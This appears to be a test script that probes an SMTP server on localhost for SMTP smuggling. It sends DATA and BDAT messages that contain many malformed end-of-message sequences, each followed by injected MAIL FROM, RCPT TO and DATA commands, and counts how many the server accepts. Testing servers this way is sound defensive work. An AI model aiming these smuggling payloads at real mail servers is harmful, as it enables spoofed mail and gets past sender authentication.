"""Sends messages that hold everything that some mail server takes for the end of a message, cut wherever it can be cut.

Arguments: port, account, password, recipient. Prints how many messages were accepted, and how many traps they held.
"""
import base64, itertools, socket, ssl, sys

port, account, password, rcpt = int(sys.argv[1]), *sys.argv[2:5]

NEWLINES = [b"\r\n", b"\n", b"\r", b"\n\n", b"\n\r", b"\r\r", b"\r\r\n", b"\r\0\n", b"\0\r\n", b"\r\n\0"]
DOTS = [b".", b"..", b". ", b" .", b".\t", b"\0.", b".\0", b".\b", b"\x1a"]
END = b"\r\n.\r\n"
TRAPS = [before + dot + after for before, dot, after in itertools.product(NEWLINES, DOTS, NEWLINES)]


class Client:
    def __init__(self):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        stream = socket.create_connection(("127.0.0.1", port))
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream.settimeout(60)
        self.tls = context.wrap_socket(stream)
        self.reader = self.tls.makefile("rb")
        self.expect(b"220")
        self.say(b"EHLO attacker.test", b"250")
        secret = base64.b64encode(f"\0{account}\0{password}".encode())
        self.say(b"AUTH PLAIN " + secret, b"235")

    def expect(self, code):
        while True:
            line = self.reader.readline()
            assert line[:3] == code, (code, line)
            if line[3:4] != b"-":
                return

    def say(self, line, code):
        self.tls.sendall(line + b"\r\n")
        self.expect(code)

    def begin(self):
        self.say(b"MAIL FROM:<%s>" % account.encode(), b"250")
        self.say(b"RCPT TO:<%s>" % rcpt.encode(), b"250")

    def in_step(self):
        # Nothing else is answered with 252: an earlier answer would be seen here.
        self.say(b"VRFY nobody", b"252")

    def data(self, pieces):
        self.begin()
        self.say(b"DATA", b"354")
        for piece in pieces:
            self.tls.sendall(piece)
        self.tls.sendall(END)
        self.expect(b"250")
        self.in_step()

    def bdat(self, pieces):
        """Each piece is a chunk; the first octets of the next one come along with it."""
        self.begin()
        pieces = [piece for piece in pieces if piece]
        for piece in pieces:
            self.tls.sendall(b"BDAT %d\r\n" % len(piece) + piece)
        self.tls.sendall(b"BDAT 0 LAST\r\n")
        for _ in pieces:
            self.expect(b"250")
        self.expect(b"250")
        self.in_step()


def cuts(length, which):
    """The `which`th way to cut `length` octets in one place or in two; cutting at either end counts."""
    ways = list(itertools.combinations_with_replacement(range(length + 1), 2))
    return ways[which % len(ways)]


def message(traps, which):
    """A message with all traps, in pieces; after each trap stands what would be obeyed if it were the end."""
    pieces = [b"From: %s\r\nSubject: outer\r\n\r\nfirst" % account.encode()]
    for number, trap in traps:
        first, second = cuts(len(trap), which)
        pieces[-1] += trap[:first]
        pieces.append(trap[first:second])
        inner = b"MAIL FROM:<trap%d@smuggled.example>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: smuggled\r\n\r\nx"
        pieces.append(trap[second:] + inner % (number, rcpt.encode()))
    return pieces


client, accepted, held = Client(), 0, 0
traps = list(enumerate(TRAPS))
# What is the end is a trap in chunks alone.
in_data = [(number, trap) for number, trap in traps if END not in trap]
# Twenty-one ways to cut five octets, forty-five to cut eight.
for which in range(45):
    client.data(message(in_data, which))
    client.bdat(message(traps, which))
    accepted += 2
    held += len(in_data) + len(traps)
# Each alone, so that none hides behind another.
for number, trap in traps:
    if 1 <= len(trap) <= 4 and END not in trap:
        client.data([b"".join(message([(number, trap)], 0))])
        client.bdat(message([(number, trap)], 4))
        accepted += 2
        held += 2
client.say(b"QUIT", b"221")
print(accepted, held)
